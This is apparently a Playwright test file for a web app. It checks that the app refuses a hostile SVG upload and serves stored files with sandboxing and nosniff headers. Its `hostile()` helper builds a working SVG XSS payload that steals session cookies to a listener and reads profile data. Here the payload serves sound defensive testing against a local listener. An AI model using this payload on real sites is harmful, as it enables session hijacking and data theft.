import { mkdirSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { dirname } from 'node:path'
import { fileURLToPath } from 'node:url'
import Database from 'better-sqlite3'
import { expect, test, type Page } from './test'
import { workerServer } from './servers'
import { loginAndLand } from './helpers'

/**
 * A hostile SVG opened in a signed-in browser runs nothing and reads nothing. The upload route
 * refuses such files, so the test also plants one straight into storage (as a file that slipped
 * past any filter would be) to prove the serving side holds on its own — once with its true type
 * (a download) and once under a row claiming a PNG (shown in place, but never sniffed into an SVG).
 * Every way the payload could report back (title, localStorage, a dialog, a request to a listener
 * carrying document.cookie) is watched; the checks hold whether or not the session cookie is httpOnly.
 */
// This worker's server database (servers.ts).
const DB_FILE = fileURLToPath(new URL(`../../backend/${workerServer().env.E2E_DB}`, import.meta.url))
const STORAGE = fileURLToPath(new URL('../../backend/storage/', import.meta.url))

const hostile = (listener: string) => {
  const leak = `new Image().src='${listener}/?c='+encodeURIComponent(document.cookie);fetch('${listener}/f',{method:'POST',mode:'no-cors',body:document.cookie})`
  return `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='PWNED:'+document.cookie;localStorage.setItem('pwned','onload');${leak}">
<script>document.title='PWNED:'+document.cookie;localStorage.setItem('pwned','script');alert('script');${leak};fetch('/api/profile/me').then(r=>r.text()).then(t=>localStorage.setItem('pwned',t))</script>
<svg:script xmlns:svg="http://www.w3.org/2000/svg">localStorage.setItem('pwned','svg:script');${leak}</svg:script>
<foreignObject width="10" height="10"><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.localStorage.setItem('pwned','srcdoc')&lt;/script&gt;"></iframe></foreignObject>
</svg>`
}

/** Writes the bytes into storage under a fresh key and registers it as the user's upload with the given type. */
function plant(email: string, bytes: string, file: { name: string; type: string; mime: string }): string {
  const key = `img/hostile-${Date.now()}-${Math.random().toString(36).slice(2)}.${file.type}`
  mkdirSync(dirname(STORAGE + key), { recursive: true })
  writeFileSync(STORAGE + key, bytes)
  const db = new Database(DB_FILE)
  try {
    db.pragma('busy_timeout = 5000')
    const user = db.prepare('select id, customer_id from users where email = ?').get(email) as { id: number; customer_id: number }
    db.prepare(`insert into uploads (file_key, file_name, file_type, mime_type, size, owner_type, customer_id, user_id, created_at)
      values (?, ?, ?, ?, ?, 'customer', ?, ?, ?)`).run(key, file.name, file.type, file.mime, bytes.length, user.customer_id, user.id, new Date().toISOString())
  } finally {
    db.close()
  }
  return key
}

const signedUrl = async (page: Page, key: string) =>
  (await page.evaluate(async (k) => (await fetch(`/api/aws-s3-signedurl?file_key=${encodeURIComponent(k)}`)).json(), key)).url as string

let listener: Server
const hits: string[] = []
test.beforeAll(async () => {
  listener = createServer((req, res) => { hits.push(`${req.method} ${req.url}`); res.end() })
  await new Promise<void>((done) => listener.listen(0, '127.0.0.1', done))
})
test.afterAll(() => new Promise<void>((done) => listener.close(() => done())))

test.describe('hostile uploads', () => {
  test('a hostile SVG is refused at upload; opened by URL in a signed-in browser it runs no script and reads no cookie', async ({ page, context }) => {
    const HOSTILE = hostile(`http://127.0.0.1:${(listener.address() as AddressInfo).port}`)
    await loginAndLand(page, 'employee@demo.test', /:\d+\/$/)
    const refused = await page.evaluate(async (svg) => {
      const form = new FormData()
      form.append('file', new Blob([svg], { type: 'image/svg+xml' }), 'logo.svg')
      form.append('file_key', 'img/logo.svg')
      const res = await fetch('/api/aws-s3-upload', { method: 'POST', body: form, headers: { 'X-Requested-With': 'XMLHttpRequest' } })
      return { status: res.status, body: await res.json() }
    }, HOSTILE)
    expect(refused.status).toBe(422)
    expect(refused.body.message).toBe('Please upload a valid image file (JPEG, PNG, SVG, GIF, BMP or WebP).')

    const asSvg = await signedUrl(page, plant('employee@demo.test', HOSTILE, { name: 'logo.svg', type: 'svg', mime: 'image/svg+xml' }))
    const asPng = await signedUrl(page, plant('employee@demo.test', HOSTILE, { name: 'logo.png', type: 'png', mime: 'image/png' }))
    expect(asSvg).toContain('/api/files/img/hostile-')

    const dialogs: string[] = []
    const watch = (p: Page) => p.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss() })
    watch(page)

    // Straight to the URL in a tab of the signed-in browser: the browser only downloads it.
    const tab = await context.newPage()
    watch(tab)
    const download = tab.waitForEvent('download')
    await tab.goto(asSvg).catch(() => undefined)
    expect((await download).suggestedFilename()).toBe('logo.svg')

    // Under a row that claims a PNG it is shown in place — as a (broken) image, never as an SVG document.
    const shown = await context.newPage()
    watch(shown)
    const res = await shown.goto(asPng)
    expect(res?.headers()['content-disposition']).toMatch(/^inline;/)
    expect(res?.headers()['content-type']).toBe('image/png')

    // And as an image on our own page (where an SVG never runs script either).
    await page.evaluate((src) => new Promise((done) => {
      const img = document.createElement('img')
      img.onload = img.onerror = () => done(null)
      img.src = src
      document.body.appendChild(img)
    }), asSvg)
    await page.waitForTimeout(1000)

    expect(dialogs).toEqual([])
    expect(hits).toEqual([])
    for (const p of [page, shown]) expect(await p.title()).not.toContain('PWNED')
    expect(await page.evaluate(() => localStorage.getItem('pwned'))).toBeNull()

    // Every file response forbids running anything and sniffing a type, whatever the type.
    for (const url of [asSvg, asPng]) {
      const headers = await page.evaluate(async (u) => {
        const r = await fetch(u)
        return { csp: r.headers.get('content-security-policy'), nosniff: r.headers.get('x-content-type-options'), disposition: r.headers.get('content-disposition') }
      }, url)
      expect(headers.csp).toMatch(/^sandbox; default-src 'none'/)
      expect(headers.nosniff).toBe('nosniff')
      expect(headers.disposition).toMatch(url === asSvg ? /^attachment;/ : /^inline;/)
    }
  })
})
